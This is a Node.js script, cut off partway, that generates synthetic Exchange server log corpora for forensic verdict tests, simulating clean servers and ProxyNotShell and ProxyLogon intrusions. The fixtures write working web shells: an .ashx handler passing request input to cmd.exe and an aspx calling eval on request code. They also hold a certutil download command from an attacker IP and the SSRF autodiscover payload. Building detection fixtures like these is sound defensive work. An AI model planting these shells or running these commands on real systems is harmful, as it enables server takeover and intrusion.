#!/usr/bin/env node
// Whole-server evidence corpora for the verdict tests (test/verdict-corpora.test.ts), generated at test time so the
// repository stays small: `node scripts/make-corpora.mjs OUT [name ...]` writes one folder per host under OUT, laid out like a
// copy of the server's C: drive. Deterministic (fixed seeds and dates). Formats and values, with their sources:
// - HttpProxy (74 columns), ECP Server, Rps Cmdlet (67 columns), IIS W3C (IIS 10, 15 default fields) layouts:
//   shared/reference/exchange-evidence.md §3.1, §3.2, §3.5, §3.7 (artefacts.help samples, Qazeer/artefacts.help
//   commit 65675faa, CC0 1.0; EVTX-ATTACK-SAMPLES Tunna IIS header).
// - ExchangeSetup.log: the layout of microsoft/CSS-Exchange Setup/Tests/KnownIssues/*.log (MIT).
// - MSExchange Management events (provider MSExchange CmdletLogs, event 1, insertion strings cmdlet, parameters,
//   caller, SID, SID, origin, process): exchange-evidence.md §2.3 (hamad-she write-up, artefacts.help); exported
//   as `wevtutil qe /f:xml` XML.
// - Admin workflow: Microsoft Learn "Export procedures" (Mailbox Import Export role, New-MailboxExportRequest to a
//   UNC share with a .pst name, Remove-MailboxExportRequest) and New-ExchangeCertificate -RequestFile to a share.
// - Outlook autodiscover.json (`/autodiscover/autodiscover.json/v1.0/<smtp>?Protocol=AutodiscoverV1`) and iOS
//   Mail (`?Email=<smtp>&Protocol=ActiveSync`): Microsoft "Autodiscover V2" documentation.
// - ProxyNotShell: GTSC blog 2022-09-28 (IIS line `autodiscover/autodiscover.json?@zdi/Powershell&Email=
//   autodiscover/autodiscover.json%3F@zdi`, web shell `owa\auth\pxh4HG1v.ashx`, attacker IPs 125.212.220.48,
//   5.180.61.17, certutil download by w3wp children), Microsoft MSRC 2022-09-29; signature-base
//   EXPL_Exchange_ProxyNotShell_Patterns_CVE_2022_41040_Oct22_1 (`Microsoft WinRM Client`).
// - Builds: shared/reference/security-updates.md (SE RTM 15.2.2562.17, Nov26SU 15.2.2562.57; 2019 CU14
//   15.2.1544.4; 2019 CU12 15.2.1118.7; 2016 CU23 Oct22SU 15.1.2507.13).
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';

const OUT = resolve(process.argv[2] ?? 'corpora');
const CRLF = '\r\n';
const EX = 'C/Program Files/Microsoft/Exchange Server/V15';
const DAY = 86_400_000;
const HOUR = 3_600_000;
const iso = (ms) => new Date(ms).toISOString();
const at = (s) => Date.parse(s);

/** Small deterministic PRNG (mulberry32). */
function rng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo, hi) => lo + Math.floor(next() * (hi - lo + 1));
  const hex = (n) => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
  return { next, int, pick: (xs) => xs[int(0, xs.length - 1)], guid: () => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}` };
}

// ---- files -------------------------------------------------------------------------------------------------

function writer(root) {
  const files = new Map();
  return {
    append(rel, header, line) {
      let f = files.get(rel);
      if (!f) files.set(rel, (f = { header, lines: [] }));
      f.lines.push(line);
    },
    put(rel, body) {
      files.set(rel, { header: '', lines: [body], raw: true });
    },
    flush() {
      for (const [rel, f] of files) {
        const abs = join(root, rel);
        mkdirSync(dirname(abs), { recursive: true });
        writeFileSync(abs, f.raw ? f.lines[0] : f.header + f.lines.map((l) => l + CRLF).join(''));
      }
    },
  };
}

const HP_FIELDS =
  'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus';
const RPS_FIELDS =
  'DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters,CmdletUniqueId,UserBudgetOnStart,ContributeToFailFast,RunspaceSettingsCreationHint,ADViewEntireForest,ADRecipientViewRoot,ADConfigurationDomainControllers,ADPreferredGlobalCatalogs,ADPreferredDomainControllers,ADUserConfigurationDomainController,ADUserPreferredGlobalCatalog,ADuserPreferredDomainControllers,ThrottlingInfo,DelayInfo,ThrottlingDelay,IsOutputObjectRedacted,CmdletProxyStage,CmdletProxyRemoteServer,CmdletProxyRemoteServerVersion,CmdletProxyMethod,ProxiedObjectCount,CmdletProxyLatency,OutputObjectCount,ParameterBinding,BeginProcessing,ProcessRecord,EndProcessing,StopProcessing,BizLogic,PowerShellLatency,UserInteractionLatency,ProvisioningLayerLatency,ActivityContextLifeTime,TotalTime,ErrorType,ExecutionResult,CacheHitCount,CacheMissCount,GenericLatency,GenericInfo,GenericErrors,ObjectGuid,ExternalDirectoryOrganizationId,ExternalDirectoryObjectId,NonPiiParameters';
const IIS_FIELDS = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken';

const csvCell = (v) => {
  const s = v === undefined || v === null ? '' : String(v);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
};
const csvRow = (cols, o) => cols.map((c) => csvCell(o[c])).join(',');
const exHeader = (version, type, t, fields) =>
  ['#Software: Microsoft Exchange Server', `#Version: ${version}`, `#Log-type: ${type}`, `#Date: ${iso(t)}`, `#Fields: ${fields}`].map((l) => l + CRLF).join('');
const stamp = (t, hour = true) => iso(t).slice(0, hour ? 13 : 10).replace(/[-T]/g, '');
const longVersion = (b) => b.split('.').map((p, i) => (i === 0 ? p : p.padStart(i === 1 ? 2 : i === 2 ? 4 : 3, '0'))).join('.');

// ---- one server ----------------------------------------------------------------------------------------------

function server(o) {
  const w = writer(join(OUT, o.dir));
  const [maj, min, bld, rev] = o.build.split('.');
  const cu = `${maj}.${min.padStart(2, '0')}.${bld.padStart(4, '0')}.000`;
  const hp = (t, v) => {
    const row = {
      DateTime: iso(t), RequestId: v.rng.guid(), MajorVersion: maj, MinorVersion: min, BuildVersion: bld, RevisionVersion: rev,
      UrlHost: o.fqdnPublic, IsAuthenticated: 'true', ServerHostName: o.host, HttpStatus: '200', BackEndStatus: '200', Method: 'GET',
      ProxyAction: 'Proxy', TargetServer: `${o.host}.${o.domain}`, TargetServerVersion: cu, RoutingType: 'IntraForest',
      RequestBytes: String(v.rng.int(0, 4000)), ResponseBytes: String(v.rng.int(200, 60000)), TotalRequestTime: String(v.rng.int(8, 400)),
      GenericInfo: `BeginRequest=${iso(t - 20)};CorrelationID=<empty>;ProxyState-Run=None;EndRequest=${iso(t)};`, RoutingStatus: 'CafeV1',
      ...v,
    };
    delete row.rng;
    w.append(`${EX}/Logging/HttpProxy/${v.Protocol}/HttpProxy_${stamp(t)}-1.LOG`, exHeader(longVersion(o.build), 'HttpProxy Logs', Math.floor(t / HOUR) * HOUR, HP_FIELDS), csvRow(HP_FIELDS.split(','), row));
  };
  const iis = (t, site, f) => {
    const d = new Date(t);
    const name = `u_ex${String(d.getUTCFullYear()).slice(2)}${String(d.getUTCMonth() + 1).padStart(2, '0')}${String(d.getUTCDate()).padStart(2, '0')}.log`;
    const header = ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', `#Date: ${iso(Math.floor(t / DAY) * DAY).slice(0, 19).replace('T', ' ')}`, `#Fields: ${IIS_FIELDS}`].map((l) => l + CRLF).join('');
    const line = [iso(t).slice(0, 10), iso(t).slice(11, 19), f.sip ?? o.ip, f.method ?? 'GET', f.stem, f.query || '-', f.port ?? (site === 'W3SVC1' ? 443 : 444), f.user || '-', f.cip, (f.ua || '-').replace(/ /g, '+'), '-', f.status ?? 200, 0, 0, f.taken ?? 31].join(' ');
    w.append(`C/inetpub/logs/LogFiles/${site}/${name}`, header, line);
  };
  const ecp = (t, data) =>
    w.append(`${EX}/Logging/ECP/Server/ECPServer${stamp(t, false)}-1.LOG`, exHeader('15.0.0.0', 'ECP Server Log', Math.floor(t / DAY) * DAY, 'TimeStamp,ServerName,EventId,EventData'), [iso(t), o.host, 'ECP.Request', csvCell(data)].join(','));
  const rps = (t, v) => {
    const row = {
      DateTime: iso(t), StartTime: iso(t - 150), RequestId: v.rng.guid(), MajorVersion: maj, MinorVersion: min, BuildVersion: bld, RevisionVersion: rev,
      ServerHostName: o.host, ProcessId: '9412', ProcessName: 'w3wp#MSExchangePowerShellAppPool', ThreadId: String(v.rng.int(20, 90)), CultureInfo: 'en-US',
      IsAdmin: 'true', ClientApplication: 'ManagementShell', ExecutionResult: 'Success', TotalTime: String(v.rng.int(40, 900)), ...v,
    };
    delete row.rng;
    w.append(`${EX}/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_${stamp(t)}-1.LOG`, exHeader(longVersion(o.build), 'Rps Cmdlet Logs', Math.floor(t / HOUR) * HOUR, RPS_FIELDS), csvRow(RPS_FIELDS.split(','), row));
  };
  return { w, hp, iis, ecp, rps, o };
}

// ---- traffic -------------------------------------------------------------------------------------------------

const OUTLOOK_UA = 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)';
const IOS_UA = 'iOS/17.4.1 (21E236) dataaccessd/1.0';
const OWA_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0';
const WINRM_UA = 'Microsoft WinRM Client';
const cafe = (r) => `&CorrelationID=<empty>;&cafeReqId=${r.guid()};`;

/** A working day of a busy server: Outlook and iOS autodiscover.json, OWA, EAS, MAPI, EMS sessions, health probes. */
function busyDay(s, day, r, users, admins) {
  const { o } = s;
  for (let i = 0; i < 14; i++) {
    const t = day + r.int(6, 18) * HOUR + r.int(0, HOUR - 1);
    const u = r.pick(users);
    const ip = `10.20.${r.int(1, 40)}.${r.int(2, 250)}`;
    const smtp = `${u}@${o.smtp}`;
    const auth = { AuthenticationType: 'Negotiate', AuthenticatedUser: `${o.netbios}\\${u}`, ClientIpAddress: ip, rng: r };
    switch (i % 7) {
      case 0: // Outlook: Autodiscover V2
        s.hp(t, { ...auth, Protocol: 'Autodiscover', UrlStem: `/autodiscover/autodiscover.json/v1.0/${smtp}`, UserAgent: OUTLOOK_UA, UrlQuery: '?Protocol=AutodiscoverV1&RedirectCount=1', AuthenticationType: 'Anonymous', IsAuthenticated: 'false', AuthenticatedUser: '', AnchorMailbox: `Smtp~${smtp}` });
        s.iis(t, 'W3SVC1', { stem: `/autodiscover/autodiscover.json/v1.0/${smtp}`, query: `Protocol=AutodiscoverV1&RedirectCount=1${cafe(r)}&encoding=;`, cip: ip, ua: OUTLOOK_UA });
        break;
      case 1: // iOS Mail: Autodiscover V2 for ActiveSync, then EAS
        s.hp(t, { ...auth, Protocol: 'Autodiscover', UrlStem: '/autodiscover/autodiscover.json', UserAgent: IOS_UA, UrlQuery: `?Email=${encodeURIComponent(smtp)}&Protocol=ActiveSync&RedirectCount=1`, AuthenticationType: 'Anonymous', IsAuthenticated: 'false', AuthenticatedUser: '', AnchorMailbox: `Smtp~${smtp}` });
        s.iis(t, 'W3SVC1', { stem: '/autodiscover/autodiscover.json', query: `Email=${encodeURIComponent(smtp)}&Protocol=ActiveSync&RedirectCount=1${cafe(r)}&encoding=;`, cip: ip, ua: IOS_UA });
        s.iis(t + 900, 'W3SVC1', { method: 'POST', stem: '/Microsoft-Server-ActiveSync/default.eas', query: `Cmd=Sync&User=${u}&DeviceId=${r.guid().slice(0, 8).toUpperCase()}&DeviceType=iPhone${cafe(r)}`, user: `${o.netbios}\\${u}`, cip: ip, ua: IOS_UA });
        break;
      case 2:
      case 3: // OWA
        s.hp(t, { ...auth, Protocol: 'Owa', UrlStem: '/owa/service.svc', Method: 'POST', UserAgent: OWA_UA, UrlQuery: '?action=GetConversationItems&app=Mail', AuthenticationType: 'Forms', AnchorMailbox: `Smtp~${smtp}` });
        s.iis(t, 'W3SVC1', { method: 'POST', stem: '/owa/service.svc', query: `action=GetConversationItems&app=Mail${cafe(r)}`, user: `${o.netbios}\\${u}`, cip: ip, ua: OWA_UA });
        break;
      case 4: // MAPI over HTTP
        s.hp(t, { ...auth, Protocol: 'Mapi', UrlStem: '/mapi/emsmdb/', Method: 'POST', UserAgent: OUTLOOK_UA, UrlQuery: `?MailboxId=${r.guid()}@${o.smtp}`, AnchorMailbox: `MailboxGuid~${r.guid()}` });
        s.iis(t, 'W3SVC1', { method: 'POST', stem: '/mapi/emsmdb/', query: `MailboxId=${r.guid()}@${o.smtp}${cafe(r)}`, user: `${o.netbios}\\${u}`, cip: ip, ua: OUTLOOK_UA });
        break;
      case 5: { // Exchange Management Shell: Kerberos to /powershell from an admin workstation
        const a = r.pick(admins);
        const q = `?serializationLevel=Full;ExchClientVer=${o.build};clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.20348.2400`;
        s.hp(t, { ...auth, Protocol: 'PowerShell', UrlStem: '/powershell', Method: 'POST', AuthenticationType: 'Kerberos', AuthenticatedUser: `${o.netbios}\\${a}`, UserAgent: WINRM_UA, UrlQuery: q, ClientIpAddress: '10.10.5.21', AnchorMailbox: `Sid~S-1-5-21-3623811015-3361044348-30300820-${r.int(1100, 1199)}` });
        s.iis(t, 'W3SVC1', { method: 'POST', stem: '/powershell', query: `${q.slice(1)}${cafe(r)}`, port: 80, user: `${o.netbios}\\${a}`, cip: '10.10.5.21', ua: WINRM_UA });
        break;
      }
      default: // Managed Availability health probe
        s.hp(t, { Protocol: 'Owa', UrlStem: '/owa/healthcheck.htm', UserAgent: 'AMProbe/Local/ClientAccess', ClientIpAddress: '127.0.0.1', AuthenticationType: 'Anonymous', IsAuthenticated: 'false', rng: r });
        s.iis(t, 'W3SVC1', { stem: '/owa/healthcheck.htm', query: cafe(r).slice(1), cip: '127.0.0.1', ua: 'AMProbe/Local/ClientAccess' });
    }
  }
  const t = day + 9 * HOUR + r.int(0, HOUR);
  s.ecp(t, `S:TIME=21;S:SID=${r.guid()};S:CMD=Get-Mailbox;S:REQID=;S:URL=/ecp/UsersGroups/Mailboxes.svc/GetList?msExchEcpCanary=${r.guid().replace(/-/g, '')};S:REFERRER=;S:EX=;S:ACTID=${r.guid()};S:RS=0;S:BLD=${o.build};S:TNAME=<null>;S:TID=;S:USID=${r.guid()};S:EDOID=;S:ACID=`);
}

/** wevtutil qe "MSExchange Management" /f:xml /e:Events: MSExchange CmdletLogs event 1 per admin cmdlet. */
function managementXml(o, events) {
  const esc = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
  const body = events
    .map(
      (e, i) =>
        `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='MSExchange CmdletLogs'/><EventID Qualifiers='16388'>1</EventID><Version>0</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x80000000000000</Keywords><TimeCreated SystemTime='${iso(e.t)}'/><EventRecordID>${4100 + i}</EventRecordID><Correlation/><Execution ProcessID='9412' ThreadID='0'/><Channel>MSExchange Management</Channel><Computer>${o.host}.${o.domain}</Computer><Security/></System><EventData><Data>${esc(e.cmdlet)}</Data><Data>${esc(e.params)}</Data><Data>${o.domain}/Users/${e.user}</Data><Data>S-1-5-21-3623811015-3361044348-30300820-1104</Data><Data>S-1-5-21-3623811015-3361044348-30300820-1104</Data><Data>Remote-PowerShell-Unknown</Data><Data>9412 w3wp#MSExchangePowerShellAppPool</Data><Data></Data></EventData></Event>`,
    )
    .join('\r\n');
  return `<?xml version="1.0" encoding="UTF-8"?>\r\n<Events>\r\n${body}\r\n</Events>\r\n`;
}

/** ExchangeSetup.log of one completed run (CSS-Exchange Setup/Tests layout). */
function setupRun(t, { product, version, mode, tz = '(UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna', offsetMin = 60 }) {
  const local = (ms) => {
    const d = new Date(ms + offsetMin * 60_000);
    const p = (n, w = 2) => String(n).padStart(w, '0');
    return `[${p(d.getUTCMonth() + 1)}/${p(d.getUTCDate())}/${d.getUTCFullYear()} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())}.${p(d.getUTCMilliseconds() * 10, 4)}]`;
  };
  const lines = [
    [0, '**********************************************'],
    [0, `Starting Microsoft Exchange Server ${product} Setup`],
    [0, '**********************************************'],
    [1, `Local time zone: ${tz}.`],
    [1, 'Operating system version: Microsoft Windows NT 10.0.20348.0.'],
    [2, `Setup version: ${version}.`],
    [3, 'Logged on user: CONTOSO\\exadmin.'],
    [40, `The installation mode is set to: '${mode}'.`],
    [52 * 60_000, 'The Exchange Server setup operation completed successfully.'],
    [52 * 60_000 + 5, 'End of Setup'],
    [52 * 60_000 + 6, '**********************************************'],
  ];
  return lines.map(([d, text]) => `${local(t + d)} [0] ${text}${CRLF}`).join('');
}

const USERS = ['amartin', 'bkowalski', 'cnguyen', 'dmueller', 'esilva', 'fjohansson', 'gchen', 'hdubois', 'iricci', 'jdoe'];
const ADMINS = ['exadmin', 'svc-exmon'];

/** Everything a busy server logs over [from, to): traffic every day. */
function busyMonth(s, from, to, seed) {
  const r = rng(seed);
  for (let d = from; d < to; d += DAY) busyDay(s, d, r, USERS, ADMINS);
  return r;
}

// ---- the corpora -----------------------------------------------------------------------------------------------

/** Busy clean Exchange 2019 CU14 server, May 2024: admin exports, EMS, autodiscover.json clients, AV files. */
function ex19BusyClean() {
  const s = server({ dir: 'ex19-busy-clean', host: 'EX19MB01', domain: 'contoso.local', netbios: 'CONTOSO', smtp: 'contoso.com', fqdnPublic: 'mail.contoso.com', ip: '10.10.1.15', build: '15.2.1544.4' });
  s.w.put('C/ExchangeSetupLogs/ExchangeSetup.log', setupRun(at('2024-03-05T08:12:00Z'), { product: '2019', version: '15.2.1544.4', mode: 'Install' }));
  const r = busyMonth(s, at('2024-05-01T00:00:00Z'), at('2024-05-31T00:00:00Z'), 19);
  // A leaver's mailbox exported to the PST share, per Microsoft's documented procedure.
  const admin = [
    { t: at('2024-05-14T09:02:11Z'), cmdlet: 'New-ManagementRoleAssignment', params: '-Role "Mailbox Import Export" -User "exadmin"' },
    { t: at('2024-05-14T09:20:45Z'), cmdlet: 'New-MailboxExportRequest', params: '-Mailbox "leaver01" -FilePath "\\\\FS01\\PSTExport$\\leaver01.pst"' },
    { t: at('2024-05-14T13:05:02Z'), cmdlet: 'Remove-MailboxExportRequest', params: '-Identity "leaver01\\MailboxExport" -Confirm:$false' },
    { t: at('2024-05-20T10:41:30Z'), cmdlet: 'New-ExchangeCertificate', params: '-GenerateRequest -SubjectName "CN=mail.contoso.com" -DomainName "mail.contoso.com","autodiscover.contoso.com" -PrivateKeyExportable $true -RequestFile "\\\\FS01\\Certs\\mail-2024.req"' },
  ];
  s.w.put('C/Windows/System32/winevt/Logs/MSExchange Management.xml', managementXml(s.o, admin.map((e) => ({ ...e, user: 'exadmin' }))));
  for (const e of admin) s.rps(e.t, { Cmdlet: e.cmdlet, Parameters: e.params, AuthenticatedUser: 'contoso.local/Users/exadmin', ExecutingUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1104', rng: r });
  // Antivirus and backup agents keep archives under ProgramData (CSS-Exchange #311: McAfee FrameworkConfig.zip).
  const zip = Buffer.from('504b0304140000000800', 'hex');
  s.w.put('C/ProgramData/McAfee/Common Framework/FrameworkConfig.zip', Buffer.concat([zip, Buffer.alloc(200, 7)]));
  s.w.put('C/ProgramData/McAfee/Agent/AgentEvents/engmin.zip', Buffer.concat([zip, Buffer.alloc(120, 3)]));
  s.w.put('C/ProgramData/Veeam/Backup/VeeamGuestHelper_logs.zip', Buffer.concat([zip, Buffer.alloc(90, 5)]));
  s.w.flush();
}

/** Exchange SE, installed 2025-07-15 on RTM, patched monthly; the last 30 days of logs (to 2026-12-02). */
function seServer(dir, build, withSetupLog) {
  const s = server({ dir, host: 'EXSE01', domain: 'fabrikam.local', netbios: 'FABRIKAM', smtp: 'fabrikam.com', fqdnPublic: 'mail.fabrikam.com', ip: '10.30.1.10', build });
  if (withSetupLog) s.w.put('C/ExchangeSetupLogs/ExchangeSetup.log', setupRun(at('2025-07-15T07:30:00Z'), { product: 'Subscription Edition', version: '15.2.2562.17', mode: 'Install' }));
  busyMonth(s, at('2026-11-02T00:00:00Z'), at('2026-12-02T00:00:00Z'), 26);
  s.w.flush();
}

/** Exchange 2016 CU23 Oct22SU hit by ProxyNotShell on 2022-09-20 (GTSC values), among normal traffic. */
function ex16ProxyNotShell() {
  const s = server({ dir: 'ex16-proxynotshell', host: 'EX16CAS01', domain: 'northwind.local', netbios: 'NORTHWIND', smtp: 'northwind.com', fqdnPublic: 'mail.northwind.com', ip: '10.40.1.12', build: '15.1.2507.13' });
  const r = busyMonth(s, at('2022-09-05T00:00:00Z'), at('2022-10-05T00:00:00Z'), 22);
  const atk = '125.212.220.48';
  const t0 = at('2022-09-20T03:14:07Z');
  // A phished low-privilege mailbox authenticates the SSRF to the PowerShell back end (CVE-2022-41040).
  for (let i = 0; i < 3; i++) {
    const t = t0 + i * 7000;
    s.iis(t, 'W3SVC1', { method: 'POST', stem: '/autodiscover/autodiscover.json', query: `@zdi/Powershell&Email=autodiscover/autodiscover.json%3F@zdi${cafe(r)}&encoding=;`, user: 'NORTHWIND\\jdoe', cip: atk, ua: WINRM_UA, taken: 1531 });
    s.hp(t, { Protocol: 'Autodiscover', UrlStem: '/autodiscover/autodiscover.json', Method: 'POST', AuthenticationType: 'Basic', AuthenticatedUser: 'NORTHWIND\\jdoe', ClientIpAddress: atk, UserAgent: WINRM_UA, UrlQuery: `?@zdi/Powershell&Email=autodiscover/autodiscover.json%3F@zdi`, AnchorMailbox: 'Smtp~zdi', RoutingHint: 'Smtp', rng: r });
  }
  // The phished account grants itself the export role, as ProxyShell-era post-exploitation does: tied to the SSRF.
  s.w.put('C/Windows/System32/winevt/Logs/MSExchange Management.xml', managementXml(s.o, [{ t: t0 + 9 * 60_000, cmdlet: 'New-ManagementRoleAssignment', params: '-Role "Mailbox Import Export" -User "jdoe"', user: 'jdoe' }]));
  // The web shell GTSC found, dropped by the w3wp child and then used.
  const shell = `${EX}/FrontEnd/HttpProxy/owa/auth/pxh4HG1v.ashx`;
  s.w.put(shell, '<%@ WebHandler Language="C#" Class="Handler" %>\r\nusing System; using System.Web;\r\npublic class Handler : IHttpHandler { public void ProcessRequest(HttpContext c) { if (c.Request["p"] != null) { System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["p"]); } } public bool IsReusable { get { return false; } } }\r\n');
  for (let i = 0; i < 4; i++) {
    const t = t0 + 40 * 60_000 + i * 90_000;
    s.iis(t, 'W3SVC1', { method: 'POST', stem: '/owa/auth/pxh4HG1v.ashx', query: cafe(r).slice(1), cip: '5.180.61.17', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36', taken: 640 });
  }
  s.w.put(
    'C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.xml',
    eventsXml([
      sysmonProcess(t0 + 61_000, 88211, 'EX16CAS01.northwind.local', 'C:\\Windows\\System32\\cmd.exe', 'cmd /c certutil -urlcache -split -f http://5.180.61.17/pxh4HG1v.ashx "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\pxh4HG1v.ashx"', w3wpCmd('MSExchangePowerShellAppPool')),
    ]),
  );
  s.w.flush();
}

/** Sysmon event 1 (process create) in `wevtutil qe /f:xml` form. */
function sysmonProcess(t, record, host, image, cmd, parentCmd) {
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${iso(t)}'/><EventRecordID>${record}</EventRecordID><Correlation/><Execution ProcessID='3120' ThreadID='4411'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>${host}</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>${iso(t).replace('T', ' ').slice(0, 23)}</Data><Data Name='Image'>${image}</Data><Data Name='CommandLine'>${cmd.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</Data><Data Name='User'>NT AUTHORITY\\SYSTEM</Data><Data Name='ParentImage'>C:\\Windows\\System32\\inetsrv\\w3wp.exe</Data><Data Name='ParentCommandLine'>${parentCmd.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</Data></EventData></Event>`;
}
const w3wpCmd = (pool) => `c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "${pool}" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm -h "C:\\inetpub\\temp\\apppools\\${pool}\\${pool}.config" -w "" -m 0`;
const eventsXml = (events) => `<?xml version="1.0" encoding="UTF-8"?>\r\n<Events>\r\n${events.join('\r\n')}\r\n</Events>\r\n`;

/**
 * Exchange 2013 CU23 without the March 2021 SU, ProxyLogon on 2021-03-03 (HAFNIUM values, Volexity / Microsoft):
 * POSTs to static /ecp/ resources in IIS, an OABGeneratorLog whose #Log-type exhunt does not know, the web shell
 * requested in IIS and HttpProxy, a w3wp child that is a tunnelling tool, and that tool dropped in ProgramData.
 */
function ex13ProxyLogon() {
  const s = server({ dir: 'ex13-proxylogon', host: 'EX13CAS', domain: 'adatum.local', netbios: 'ADATUM', smtp: 'adatum.com', fqdnPublic: 'owa.adatum.com', ip: '10.50.1.5', build: '15.0.1497.2' });
  const r = busyMonth(s, at('2021-02-08T00:00:00Z'), at('2021-03-10T00:00:00Z'), 13);
  const atk = '86.105.18.116'; // Volexity's ProxyLogon attacker address list
  const t0 = at('2021-03-03T06:49:42Z');
  for (const [i, stem] of ['/ecp/y.png', '/ecp/DDI/DDIService.js', '/ecp/default.flt'].entries()) {
    s.iis(t0 + i * 4000, 'W3SVC1', { method: 'POST', stem, query: cafe(r).slice(1), cip: atk, ua: 'ExchangeServicesClient/0.0.0.0', taken: 212 });
  }
  // OABGeneratorLog lines as Test-ProxyLogon reads them; the header names a #Log-type exhunt has no parser for.
  s.w.put(
    `${EX}/Logging/OABGeneratorLog/OABGenerator_20210303-1.LOG`,
    ['#Software: Microsoft Exchange Server', '#Version: 15.00.1497.002', '#Log-type: OABGenerator Log', `#Date: 2021-03-03T00:00:00.000Z`, '#Fields: DateTime,Message']
      .concat([`${iso(t0 + 60_000)},Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx' needs to be removed.`])
      .map((l) => l + CRLF)
      .join(''),
  );
  s.w.put('C/inetpub/wwwroot/aspnet_client/supp0rt.aspx', '<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>\r\n');
  const tShell = t0 + 5 * 60_000;
  const reqId = r.guid();
  s.iis(tShell, 'W3SVC1', { method: 'POST', stem: '/aspnet_client/supp0rt.aspx', query: `&CorrelationID=<empty>;&cafeReqId=${reqId};`, cip: atk, ua: 'python-requests/2.25.1', taken: 88 });
  s.iis(tShell + 30_000, 'W3SVC1', { method: 'POST', stem: '/owa/auth/supp0rt.aspx', query: `&CorrelationID=<empty>;&cafeReqId=${r.guid()};`, cip: atk, ua: 'python-requests/2.25.1', taken: 71 });
  s.hp(tShell + 30_000, { Protocol: 'Owa', UrlStem: '/owa/auth/supp0rt.aspx', Method: 'POST', AuthenticationType: 'Anonymous', IsAuthenticated: 'false', ClientIpAddress: atk, UserAgent: 'python-requests/2.25.1', rng: r });
  s.w.put(`${EX}/FrontEnd/HttpProxy/owa/auth/supp0rt.aspx`, '<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>\r\n');
  s.w.put(
    'C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.xml',
